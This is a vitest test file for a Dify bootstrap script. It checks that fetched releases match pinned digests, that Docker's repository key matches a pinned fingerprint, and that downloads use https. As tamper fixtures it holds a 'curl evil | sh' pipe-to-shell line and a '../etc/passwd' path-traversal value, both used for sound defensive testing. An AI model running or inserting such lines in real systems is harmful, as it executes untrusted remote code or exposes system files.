// What the bootstrap runs as root is verified before it is used (project issue 9 §4), run for real with the
// shipped script's functions and stand-ins for git, curl, apt-get, dnf and rpm:
// - Dify: whatever a source delivers (GitHub or Gitee clone, GitHub's tarball) must have the pinned content digest
//   of rules/dify-releases.ts; a copy with one byte changed is refused and the next source tried;
// - Docker: the repository key must be exactly Docker's key, by fingerprint (throwaway keys made with gpg here
//   stand in for it, through DIFY_BOOTSTRAP_DOCKER_KEY_FPR);
// - every URL is https but the VPC-internal Docker mirror.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { requireTool, runBootstrapFunctions, runTool } from "./tooling";
import { difyReleaseDir } from "../harness/dify-release";
import { DIFY_RELEASES, releaseVerification } from "../../rules/dify-releases";
import { compactScript, readBootstrapScript, renderBootstrapConfig } from "../../components/bootstrap/userdata";
import { installMocks, valueOf } from "./pulumi-mocks";
import { DifyBootstrap } from "../../components/dify-bootstrap";

const source = readBootstrapScript();
const script = compactScript(source);
const PIN_1_14_1 = DIFY_RELEASES["1.14.1"].digest;
const PIN_1_8_0 = DIFY_RELEASES["1.8.0"].digest;
let workDir: string;
const scratch: string[] = [];

beforeEach(() => {
    workDir = fs.mkdtempSync(path.join(os.tmpdir(), "bootstrap-verify-"));
    scratch.push(workDir);
});
afterAll(() => {
    for (const dir of scratch) {
        fs.rmSync(dir, { recursive: true, force: true });
    }
});

function run(snippet: string, stubs: Record<string, string> = {}, env: Record<string, string> = {}) {
    return runBootstrapFunctions(snippet, { workDir, script, stubs, env });
}

const target = () => path.join(workDir, "opt-dify");
const readLog = (name: string) => (fs.existsSync(path.join(workDir, name)) ? fs.readFileSync(path.join(workDir, name), "utf8").trim().split("\n") : []);

/**
 * A `git` whose clone copies $RELEASE (a real docker/ folder) into the target's docker/; a source listed in
 * GIT_FAILS fails, one in GIT_TAMPERED delivers the copy with the first byte of docker-compose.yaml changed (and
 * GIT_EXTRA adds a file to docker/). `git -C DIR rev-parse HEAD` answers GIT_HEAD.
 */
const FAKE_GIT = `
case "$1" in
  clone)
    for a in "$@"; do target="$a"; case "$a" in https://*) src="$a";; esac; done
    echo "$src" >> "$FAKE_LOG"
    case " $GIT_FAILS " in *" $src "*) exit 128;; esac
    mkdir -p "$target/docker" && cp -r "$RELEASE/." "$target/docker/" && chmod -R u+w "$target"
    case " $GIT_TAMPERED " in *" $src "*) printf X | dd of="$target/docker/docker-compose.yaml" bs=1 count=1 conv=notrunc status=none;; esac
    if [ -n "\${GIT_EXTRA:-}" ]; then echo extra > "$target/docker/$GIT_EXTRA"; fi ;;
  -C) [ "$3" = rev-parse ] && echo "\${GIT_HEAD:-0000000000000000000000000000000000000000}" ;;
  *) echo "unexpected: git $*" >&2; exit 1 ;;
esac`;

/** A `curl` that logs the URL and writes $CURL_FILE (or fails with 22 when it is unset) to -o. */
const FAKE_CURL = `
for a in "$@"; do
  [ "\${prev:-}" = -o ] && out="$a"
  case "$a" in http://* | https://*) url="$a";; esac
  prev="$a"
done
echo "$url" >> "$CURL_LOG"
[ -n "\${CURL_FILE:-}" ] || exit 22
cp "$CURL_FILE" "$out"`;

/** GitHub's tarball of a release whose docker/ folder is `docker` (optionally changed by `edit`). */
function tarballOf(docker: string, edit?: (copy: string) => void): string {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), "dify-tarball-"));
    scratch.push(root);
    fs.cpSync(docker, path.join(root, "dify-1.14.1", "docker"), { recursive: true });
    runTool("chmod", ["-R", "u+w", root]);
    edit?.(path.join(root, "dify-1.14.1", "docker"));
    const tarball = path.join(root, "dify.tar.gz");
    const result = runTool("tar", ["-czf", tarball, "-C", root, "dify-1.14.1"]);
    expect(result.status).toBe(0);
    return tarball;
}

function fetchEnv(extra: Record<string, string> = {}): Record<string, string> {
    return {
        RELEASE: difyReleaseDir("1.14.1", "docker"),
        FAKE_LOG: path.join(workDir, "git.log"),
        CURL_LOG: path.join(workDir, "curl.log"),
        DIFY_RELEASE_DIGEST: PIN_1_14_1,
        ...extra,
    };
}

const GITHUB = "https://github.com/langgenius/dify.git";
const GITEE = "https://gitee.com/dify_ai/dify.git";
const FETCH = `fetch_dify 1.14.1 "$DIFY_BOOTSTRAP_DIFY_DIR"`;
const stubs = { git: FAKE_GIT, curl: FAKE_CURL, timeout: 'shift; "$@"' };

describe("fetching Dify: verified against the pinned content digest", () => {
    it("uses a clone whose docker/ folder has the pinned digest, and marks it verified", () => {
        const result = run(FETCH, stubs, fetchEnv());
        expect(result.stderr).toBe("");
        expect(result.status).toBe(0);
        expect(readLog("git.log")).toEqual([GITHUB]);
        expect(result.stdout).toContain(`verified Dify 1.14.1 from GitHub: docker/ has the pinned digest ${PIN_1_14_1}`);
        expect(fs.readFileSync(path.join(target(), ".dify-release-verified"), "utf8")).toBe(`1.14.1 ${PIN_1_14_1}\n`);
    });

    it("refuses a copy with one byte changed, logs both digests, and takes the next source", () => {
        const result = run(FETCH, stubs, fetchEnv({ GIT_TAMPERED: GITHUB }));
        expect(result.status).toBe(0);
        expect(readLog("git.log")).toEqual([GITHUB, GITEE]);
        const refused = /refusing Dify 1\.14\.1 from GitHub and removing it: docker\/ has the digest ([0-9a-f]{64}), pinned ([0-9a-f]{64})/.exec(result.stdout);
        expect(refused?.[2]).toBe(PIN_1_14_1);
        expect(refused?.[1]).not.toBe(PIN_1_14_1);
        expect(result.stdout).toContain("verified Dify 1.14.1 from Gitee");
        // What is left is Gitee's good copy.
        expect(fs.readFileSync(path.join(target(), "docker", "docker-compose.yaml"))).toEqual(fs.readFileSync(path.join(difyReleaseDir("1.14.1", "docker"), "docker-compose.yaml")));
    });

    it("verifies GitHub's tarball the same way, and refuses a changed one", () => {
        const both = `${GITHUB} ${GITEE}`;
        const good = run(FETCH, stubs, fetchEnv({ GIT_FAILS: both, CURL_FILE: tarballOf(difyReleaseDir("1.14.1", "docker")) }));
        expect(good.status).toBe(0);
        expect(good.stdout).toContain("verified Dify 1.14.1 from tarball");
        expect(readLog("curl.log")).toEqual(["https://github.com/langgenius/dify/archive/refs/tags/1.14.1.tar.gz"]);

        fs.rmSync(target(), { recursive: true });
        const changed = tarballOf(difyReleaseDir("1.14.1", "docker"), (docker) => fs.appendFileSync(path.join(docker, "nginx", "nginx.conf.template"), "# added\n"));
        const bad = run(FETCH, stubs, fetchEnv({ GIT_FAILS: both, CURL_FILE: changed }));
        expect(bad.status).not.toBe(0);
        expect(bad.stdout).toMatch(/refusing Dify 1\.14\.1 from tarball and removing it: docker\/ has the digest [0-9a-f]{64}, pinned/);
    });

    it("fails for good when no source delivers the pinned release, naming both digests, and leaves nothing behind", () => {
        const tampered = tarballOf(difyReleaseDir("1.14.1", "docker"), (docker) => fs.writeFileSync(path.join(docker, "extra.sh"), "curl evil | sh\n"));
        // Under the bootstrap's retry: a refusal ends the bootstrap, it does not fetch the same again.
        const result = run(`retry 3 30 ${FETCH}`, { ...stubs, sleep: "true" }, fetchEnv({ GIT_TAMPERED: `${GITHUB} ${GITEE}`, CURL_FILE: tampered }));
        expect(result.status).toBe(1);
        expect(readLog("git.log")).toEqual([GITHUB, GITEE]);
        expect(fs.existsSync(target())).toBe(false);
        const failed = fs.readFileSync(path.join(workDir, "state", "failed"), "utf8");
        expect(failed).toMatch(
            new RegExp(
                `^refusing Dify 1\\.14\\.1: no source delivered the release the stack pinned \\(rules/dify-releases\\.ts\\); GitHub: docker/ has the digest [0-9a-f]{64}, pinned ${PIN_1_14_1}; Gitee: .*; tarball: docker/ has the digest [0-9a-f]{64}, pinned ${PIN_1_14_1}\\n$`,
            ),
        );
        const status = fs.readFileSync(path.join(workDir, "state", "status"), "utf8");
        expect(status).toContain("state=failed\n");
        expect(status).toContain("detail=refusing Dify 1.14.1");
    });

    it("still tries the next source when one cannot be reached, and fails without a refusal when none can", () => {
        const result = run(FETCH, stubs, fetchEnv({ GIT_FAILS: `${GITHUB} ${GITEE}` }));
        expect(result.status).toBe(1);
        expect(result.stdout).toContain("fetching Dify 1.14.1 failed from GitHub, Gitee and the tarball");
        expect(fs.existsSync(path.join(workDir, "state", "failed"))).toBe(false);
    });

    it("never keeps a tree that was not verified, and keeps a verified one on a rerun", () => {
        // What an earlier bootstrap (no marker) or a copy verified against another pin left: fetched again.
        fs.mkdirSync(path.join(target(), "docker"), { recursive: true });
        fs.writeFileSync(path.join(target(), "docker", "docker-compose.yaml"), "services: {evil: {image: x}}\n");
        fs.writeFileSync(path.join(target(), ".tag"), "1.14.1\n");
        const first = run(FETCH, stubs, fetchEnv());
        expect(first.status).toBe(0);
        expect(readLog("git.log")).toEqual([GITHUB]);
        expect(first.stdout).toContain("verified Dify 1.14.1 from GitHub");

        fs.writeFileSync(path.join(target(), ".dify-release-verified"), `1.14.1 ${"0".repeat(64)}\n`);
        expect(run(FETCH, stubs, fetchEnv()).stdout).toContain("verified Dify 1.14.1 from GitHub");
        expect(readLog("git.log")).toEqual([GITHUB, GITHUB]);

        // The bootstrap then edits docker/ (.env, the override, volumes/): the marker, not a new digest, says it was verified.
        fs.writeFileSync(path.join(target(), "docker", ".env"), "SECRET_KEY=x\n");
        const again = run(FETCH, stubs, fetchEnv());
        expect(again.status).toBe(0);
        expect(again.stdout).toContain("Dify 1.14.1 is already in");
        expect(readLog("git.log")).toEqual([GITHUB, GITHUB]);
    });

    it("checks only the pinned files of a release pinned so (1.8.0), and refuses a change in one of them", () => {
        const env = fetchEnv({ RELEASE: difyReleaseDir("1.8.0", "docker"), DIFY_RELEASE_DIGEST: PIN_1_8_0, DIFY_RELEASE_FILES: ".env.example docker-compose.yaml", GIT_EXTRA: "unpinned.txt" });
        const good = run(`fetch_dify 1.8.0 "$DIFY_BOOTSTRAP_DIFY_DIR"`, stubs, env);
        expect(good.status).toBe(0);
        expect(good.stdout).toContain(`verified Dify 1.8.0 from GitHub: docker/ has the pinned digest ${PIN_1_8_0}`);
        fs.rmSync(target(), { recursive: true });
        const bad = run(`fetch_dify 1.8.0 "$DIFY_BOOTSTRAP_DIFY_DIR"`, stubs, { ...env, GIT_TAMPERED: `${GITHUB} ${GITEE}` });
        expect(bad.status).not.toBe(0);
        expect(bad.stdout).toContain("refusing Dify 1.8.0 from Gitee and removing it: docker/ has the digest");
    });

    it("checks a clone's HEAD against a pinned commit, but not the tarball's", () => {
        const commit = "0123456789abcdef0123456789abcdef01234567";
        const wrong = run(FETCH, stubs, fetchEnv({ DIFY_RELEASE_COMMIT: commit, GIT_HEAD: "f".repeat(40), CURL_FILE: tarballOf(difyReleaseDir("1.14.1", "docker")) }));
        expect(wrong.status).toBe(0);
        expect(wrong.stdout).toContain(`refusing Dify 1.14.1 from GitHub and removing it: commit ${"f".repeat(40)}, pinned ${commit}`);
        expect(wrong.stdout).toContain("verified Dify 1.14.1 from tarball");
        fs.rmSync(target(), { recursive: true });
        const right = run(FETCH, stubs, fetchEnv({ DIFY_RELEASE_COMMIT: commit, GIT_HEAD: commit }));
        expect(right.stdout).toContain("verified Dify 1.14.1 from GitHub");
    });

    it("without a pinned digest (allowUnpinnedDifyVersion), says it is not verifying", () => {
        const result = run(`fetch_dify 1.13.0 "$DIFY_BOOTSTRAP_DIFY_DIR"`, stubs, fetchEnv({ DIFY_RELEASE_DIGEST: "" }));
        expect(result.status).toBe(0);
        expect(result.stdout).toContain("NOT verifying Dify 1.13.0: the stack pins no digest for it (allowUnpinnedDifyVersion)");
        expect(fs.readFileSync(path.join(target(), ".dify-release-verified"), "utf8")).toBe("1.13.0 unverified\n");
    });

    it("takes the pin from the settings file the user data writes", () => {
        for (const version of ["1.14.1", "1.8.0"]) {
            const config = renderBootstrapConfig({
                difyVersion: version,
                publicUrl: "http://198.51.100.23",
                initPassword: "Ab1-_=/&.xyz",
                dataDiskId: "d-bp1abc",
                registryMirrors: [],
                ...releaseVerification(version),
            });
            fs.writeFileSync(path.join(workDir, "bootstrap.env"), config);
            fs.rmSync(target(), { recursive: true, force: true });
            const env = fetchEnv({ RELEASE: difyReleaseDir(version, "docker"), GIT_TAMPERED: GITHUB, DIFY_RELEASE_DIGEST: "" });
            const result = run(`. "$DIFY_BOOTSTRAP_CONFIG"; fetch_dify "$DIFY_VERSION" "$DIFY_BOOTSTRAP_DIFY_DIR"`, stubs, env);
            expect(result.status, result.stdout).toBe(0);
            expect(result.stdout).toContain(`refusing Dify ${version} from GitHub`);
            expect(result.stdout).toContain(`verified Dify ${version} from Gitee: docker/ has the pinned digest ${DIFY_RELEASES[version].digest}`);
        }
    });
});

describe("the user data carries the release's pin", () => {
    it("renders the pin into bootstrap.env, and refuses a malformed one", () => {
        const base = { difyVersion: "1.8.0", publicUrl: "http://x", initPassword: "p", dataDiskId: "d-1", registryMirrors: [] };
        expect(renderBootstrapConfig({ ...base, ...releaseVerification("1.8.0") })).toContain(
            `DIFY_RELEASE_DIGEST='${PIN_1_8_0}'\nDIFY_RELEASE_FILES='.env.example docker-compose.yaml'\nDIFY_RELEASE_COMMIT=''\n`,
        );
        expect(renderBootstrapConfig(base)).toContain("DIFY_RELEASE_DIGEST=''\nDIFY_RELEASE_FILES=''\n");
        expect(() => renderBootstrapConfig({ ...base, releaseDigest: "abc" })).toThrow(/DIFY_RELEASE_DIGEST/);
        expect(() => renderBootstrapConfig({ ...base, releaseDigest: PIN_1_8_0, releaseFiles: ["a b"] })).toThrow(/DIFY_RELEASE_FILES/);
        expect(() => renderBootstrapConfig({ ...base, releaseDigest: PIN_1_8_0, releaseFiles: ["../etc/passwd"] })).toThrow(/DIFY_RELEASE_FILES/);
        expect(() => renderBootstrapConfig({ ...base, releaseFiles: ["a"] })).toThrow(/without DIFY_RELEASE_DIGEST/);
        expect(() => renderBootstrapConfig({ ...base, releaseDigest: PIN_1_8_0, releaseCommit: "HEAD" })).toThrow(/DIFY_RELEASE_COMMIT/);
    });

    it("DifyBootstrap takes the pin from the table, and refuses an unpinned version without the opt-out", async () => {
        installMocks();
        const args = { publicAddress: "198.51.100.23", dataDiskId: "d-bp1abc" };
        const pinned = new DifyBootstrap("pinned", { ...args, difyVersion: "1.14.1" });
        expect(await valueOf(pinned.userData)).toContain(`DIFY_RELEASE_DIGEST='${PIN_1_14_1}'`);
        expect(() => new DifyBootstrap("unpinned", { ...args, difyVersion: "1.13.0" })).toThrow(
            "DifyBootstrap: Dify 1.13.0 has no pinned digest (pinned: 1.8.0, 1.14.1; rules/dify-releases.ts); set allowUnpinnedDifyVersion to deploy it unverified",
        );
        const allowed = new DifyBootstrap("allowed", { ...args, difyVersion: "1.13.0", allowUnpinnedDifyVersion: true });
        expect(await valueOf(allowed.userData)).toContain("DIFY_RELEASE_DIGEST=''");
    });
});

describe("Docker's repository key: pinned by fingerprint", () => {
    let keys: string;
    /** Armored key files: the expected key (with a subkey), another key, both in one file, and no key. */
    const key = (name: string) => path.join(keys, name);
    let expectedFpr: string;
    let otherFpr: string;

    beforeAll(() => {
        requireTool("gpg");
        keys = fs.mkdtempSync(path.join(os.tmpdir(), "docker-keys-"));
        const home = path.join(keys, "gnupg");
        fs.mkdirSync(home, { mode: 0o700 });
        const gpg = (...args: string[]) => {
            const result = runTool("gpg", ["--homedir", home, "--batch", "--pinentry-mode", "loopback", "--passphrase", "", ...args]);
            expect(result.status, result.stderr).toBe(0);
            return result.stdout;
        };
        const fingerprint = (uid: string) => /^fpr:+([0-9A-F]{40}):/m.exec(gpg("--with-colons", "--list-keys", uid))?.[1] as string;
        gpg("--quick-gen-key", "Docker Release (test) <docker@example.com>", "ed25519", "sign", "never");
        gpg("--quick-gen-key", "Someone Else <other@example.com>", "ed25519", "sign", "never");
        expectedFpr = fingerprint("docker@example.com");
        otherFpr = fingerprint("other@example.com");
        gpg("--quick-add-key", expectedFpr, "cv25519", "encr", "never");
        fs.writeFileSync(key("docker.asc"), gpg("--armor", "--export", expectedFpr));
        fs.writeFileSync(key("other.asc"), gpg("--armor", "--export", otherFpr));
        fs.writeFileSync(key("both.asc"), gpg("--armor", "--export", expectedFpr, otherFpr));
        fs.writeFileSync(key("appended.asc"), fs.readFileSync(key("docker.asc"), "utf8") + fs.readFileSync(key("other.asc"), "utf8"));
        fs.writeFileSync(key("html.asc"), "<html>404 Not Found</html>\n");
    });
    afterAll(() => fs.rmSync(keys, { recursive: true, force: true }));

    it("pins Docker's published fingerprints, a different key for the deb and the rpm repositories", () => {
        expect(source).toContain('DOCKER_KEY_FPR_UBUNTU="${DIFY_BOOTSTRAP_DOCKER_KEY_FPR:-9DC858229FC7DD38854AE2D88D81803C0EBFCD88}"');
        expect(source).toContain('DOCKER_KEY_FPR_CENTOS="${DIFY_BOOTSTRAP_DOCKER_KEY_FPR:-060A61C51B558A7F742B77AAC52FEB6B621E9F35}"');
        const values = run(`echo "$DOCKER_KEY_FPR_UBUNTU $DOCKER_KEY_FPR_CENTOS"`);
        expect(values.stdout.trim()).toBe("9DC858229FC7DD38854AE2D88D81803C0EBFCD88 060A61C51B558A7F742B77AAC52FEB6B621E9F35");
    });

    it("reads the primary keys' fingerprints of a key file (subkeys left out)", () => {
        const one = runBootstrapFunctions(`docker_key_fingerprints "$1"`, { workDir, script, args: [key("docker.asc")] });
        expect(one.status).toBe(0);
        expect(one.stdout.trim()).toBe(expectedFpr);
        const two = runBootstrapFunctions(`docker_key_fingerprints "$1"`, { workDir, script, args: [key("both.asc")] });
        expect(two.stdout.trim().split(" ").sort()).toEqual([expectedFpr, otherFpr].sort());
        expect(runBootstrapFunctions(`docker_key_fingerprints "$1"`, { workDir, script, args: [key("html.asc")] }).stdout.trim()).toBe("");
    });

    /** install_docker on `os` with apt/dnf/rpm stand-ins, the mirrors serving `keyFile` (none: unreachable). */
    function installDocker(os: "ubuntu" | "alinux", keyFile: string | undefined) {
        const pkgStub = `echo "$(basename "$0") $*" >> "$PKG_LOG"`;
        return run(`os_id() { echo ${os}; }; install_docker`, {
            curl: FAKE_CURL,
            docker: "exit 1",
            dpkg: "echo amd64",
            "apt-get": pkgStub,
            dnf: pkgStub,
            rpm: `${pkgStub}; [ "$1" != --import ] || cp "$2" "$RPM_IMPORTED"`,
        }, {
            DIFY_BOOTSTRAP_DOCKER_KEY_FPR: expectedFpr,
            DIFY_BOOTSTRAP_APT_DIR: path.join(workDir, "apt"),
            DIFY_BOOTSTRAP_YUM_REPOS_DIR: path.join(workDir, "yum.repos.d"),
            CURL_LOG: path.join(workDir, "curl.log"),
            PKG_LOG: path.join(workDir, "pkg.log"),
            RPM_IMPORTED: path.join(workDir, "rpm-imported.asc"),
            ...(keyFile ? { CURL_FILE: keyFile } : {}),
        });
    }

    it("on Ubuntu, installs the checked key for apt alone (signed-by), from the VPC mirror first", () => {
        const result = installDocker("ubuntu", key("docker.asc"));
        expect(result.stderr).toBe("");
        expect(result.status).toBe(0);
        expect(readLog("curl.log")).toEqual(["http://mirrors.cloud.aliyuncs.com/docker-ce/linux/ubuntu/gpg"]);
        const keyring = path.join(workDir, "apt", "keyrings", "docker.asc");
        expect(fs.readFileSync(keyring, "utf8")).toBe(fs.readFileSync(key("docker.asc"), "utf8"));
        expect(fs.statSync(keyring).mode & 0o777).toBe(0o644);
        const codename = /^VERSION_CODENAME=(.*)$/m.exec(fs.readFileSync("/etc/os-release", "utf8"))?.[1];
        expect(fs.readFileSync(path.join(workDir, "apt", "sources.list.d", "docker.list"), "utf8")).toBe(
            `deb [arch=amd64 signed-by=${keyring}] http://mirrors.cloud.aliyuncs.com/docker-ce/linux/ubuntu ${codename} stable\n`,
        );
        expect(readLog("pkg.log")[0]).toBe("apt-get -o DPkg::Lock::Timeout=600 update -q");
    });

    it.each([
        ["another key", "other.asc", () => otherFpr],
        ["the right key with a second one beside it", "both.asc", () => `${[expectedFpr, otherFpr].join(" ")}|${[otherFpr, expectedFpr].join(" ")}`],
        ["the right key with a second one appended", "appended.asc", () => `${[expectedFpr, otherFpr].join(" ")}|${[otherFpr, expectedFpr].join(" ")}`],
        ["no key at all", "html.asc", () => "no key"],
    ])("on Ubuntu, refuses %s from every mirror, installs nothing and stops, naming both fingerprints", (_what, file, found) => {
        const result = run(`os_id() { echo ubuntu; }; retry 3 30 install_docker`, {
            curl: FAKE_CURL,
            docker: "exit 1",
            dpkg: "echo amd64",
            "apt-get": `echo "apt-get $*" >> "$PKG_LOG"`,
            sleep: "true",
        }, {
            DIFY_BOOTSTRAP_DOCKER_KEY_FPR: expectedFpr,
            DIFY_BOOTSTRAP_APT_DIR: path.join(workDir, "apt"),
            CURL_LOG: path.join(workDir, "curl.log"),
            PKG_LOG: path.join(workDir, "pkg.log"),
            CURL_FILE: key(file),
        });
        expect(result.status).toBe(1);
        expect(fs.existsSync(path.join(workDir, "apt", "keyrings", "docker.asc"))).toBe(false);
        expect(fs.existsSync(path.join(workDir, "apt", "sources.list.d", "docker.list"))).toBe(false);
        expect(readLog("pkg.log")).toEqual([]);
        // Both mirrors once: a refusal is not retried.
        expect(readLog("curl.log")).toEqual(["http://mirrors.cloud.aliyuncs.com/docker-ce/linux/ubuntu/gpg", "https://mirrors.aliyun.com/docker-ce/linux/ubuntu/gpg"]);
        const failed = fs.readFileSync(path.join(workDir, "state", "failed"), "utf8");
        const foundPattern = found().split("|").map((f) => f.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")).join("|");
        expect(failed).toMatch(
            new RegExp(
                `^refusing Docker's repository key, Docker was not installed: http://mirrors\\.cloud\\.aliyuncs\\.com/docker-ce/linux/ubuntu/gpg: expected ${expectedFpr}, found (${foundPattern}); https://mirrors\\.aliyun\\.com/docker-ce/linux/ubuntu/gpg: expected ${expectedFpr}, found (${foundPattern})\\n$`,
            ),
        );
        expect(fs.readFileSync(path.join(workDir, "state", "status"), "utf8")).toContain("state=failed\n");
    });

    it("refuses the real Docker fingerprints for a throwaway key (no override)", () => {
        const checked = runBootstrapFunctions(`fetch_docker_key https://example.com/gpg "$1" "$DOCKER_KEY_FPR_UBUNTU"`, {
            workDir,
            script,
            args: [path.join(workDir, "downloaded.asc")],
            stubs: { curl: FAKE_CURL },
            env: { CURL_LOG: path.join(workDir, "curl.log"), CURL_FILE: key("docker.asc") },
        });
        expect(checked.status).toBe(1);
        expect(checked.stdout).toContain(`refusing the Docker repository key from https://example.com/gpg: expected the key 9DC858229FC7DD38854AE2D88D81803C0EBFCD88, found ${expectedFpr}`);
    });

    it("uses the next mirror when the VPC mirror's key is refused", () => {
        // The internal mirror serves another key; the public one Docker's.
        const curl = `${FAKE_CURL.replace('cp "$CURL_FILE" "$out"', 'case "$url" in http://*) cp "$OTHER_KEY" "$out";; *) cp "$CURL_FILE" "$out";; esac')}`;
        const result = run(`os_id() { echo ubuntu; }; install_docker`, { curl, docker: "exit 1", dpkg: "echo amd64", "apt-get": "true" }, {
            DIFY_BOOTSTRAP_DOCKER_KEY_FPR: expectedFpr,
            DIFY_BOOTSTRAP_APT_DIR: path.join(workDir, "apt"),
            CURL_LOG: path.join(workDir, "curl.log"),
            CURL_FILE: key("docker.asc"),
            OTHER_KEY: key("other.asc"),
        });
        expect(result.status).toBe(0);
        expect(result.stdout).toContain(`refusing the Docker repository key from http://mirrors.cloud.aliyuncs.com/docker-ce/linux/ubuntu/gpg: expected the key ${expectedFpr}, found ${otherFpr}`);
        expect(fs.readFileSync(path.join(workDir, "apt", "sources.list.d", "docker.list"), "utf8")).toContain("https://mirrors.aliyun.com/docker-ce/linux/ubuntu");
        expect(fs.existsSync(path.join(workDir, "state", "failed"))).toBe(false);
    });

    it("on Alibaba Cloud Linux, imports the checked key into rpm and writes a repository file without a gpgkey URL", () => {
        const result = installDocker("alinux", key("docker.asc"));
        expect(result.stderr).toBe("");
        expect(result.status).toBe(0);
        expect(readLog("curl.log")).toEqual(["http://mirrors.cloud.aliyuncs.com/docker-ce/linux/centos/gpg"]);
        expect(fs.readFileSync(path.join(workDir, "rpm-imported.asc"), "utf8")).toBe(fs.readFileSync(key("docker.asc"), "utf8"));
        const pkg = readLog("pkg.log");
        expect(pkg[0]).toMatch(/^rpm --import /);
        expect(pkg.slice(1)).toEqual([
            "dnf -y install dnf-plugin-releasever-adapter --repo alinux3-plus",
            "dnf -y install docker-ce docker-ce-cli containerd.io docker-buildx-plugin docker-compose-plugin git openssl curl",
        ]);
        expect(fs.readFileSync(path.join(workDir, "yum.repos.d", "docker-ce.repo"), "utf8")).toBe(
            "[docker-ce-stable]\nname=Docker CE Stable - $basearch\nbaseurl=http://mirrors.cloud.aliyuncs.com/docker-ce/linux/centos/$releasever/$basearch/stable\nenabled=1\ngpgcheck=1\n",
        );
    });

    it("on Alibaba Cloud Linux, refuses another key: nothing imported, no repository, no dnf", () => {
        const result = installDocker("alinux", key("other.asc"));
        expect(result.status).toBe(1);
        expect(fs.existsSync(path.join(workDir, "rpm-imported.asc"))).toBe(false);
        expect(fs.existsSync(path.join(workDir, "yum.repos.d", "docker-ce.repo"))).toBe(false);
        expect(readLog("pkg.log")).toEqual([]);
        expect(fs.readFileSync(path.join(workDir, "state", "failed"), "utf8")).toContain(
            `refusing Docker's repository key, Docker was not installed: http://mirrors.cloud.aliyuncs.com/docker-ce/linux/centos/gpg: expected ${expectedFpr}, found ${otherFpr}`,
        );
    });
});

describe("transport", () => {
    it("uses https for every download but the VPC-internal Docker mirror, whose packages the pinned key checks", () => {
        const httpUrls = [...source.matchAll(/http:\/\/[^\s"'`)]+/g)].map((match) => match[0]);
        // The loopback probes of the local Dify are no downloads.
        const allowed = (url: string) => url === "http://mirrors.cloud.aliyuncs.com/docker-ce" || url.startsWith("http://127.0.0.1/");
        expect(httpUrls.filter((url) => !allowed(url))).toEqual([]);
        expect(source).toMatch(/DOCKER_MIRROR_PUBLIC=https:\/\/mirrors\.aliyun\.com\/docker-ce\n/);
        for (const url of ["https://github.com/langgenius/dify.git", "https://gitee.com/dify_ai/dify.git", "https://github.com/langgenius/dify/archive/refs/tags/"]) {
            expect(source).toContain(url);
        }
    });
});
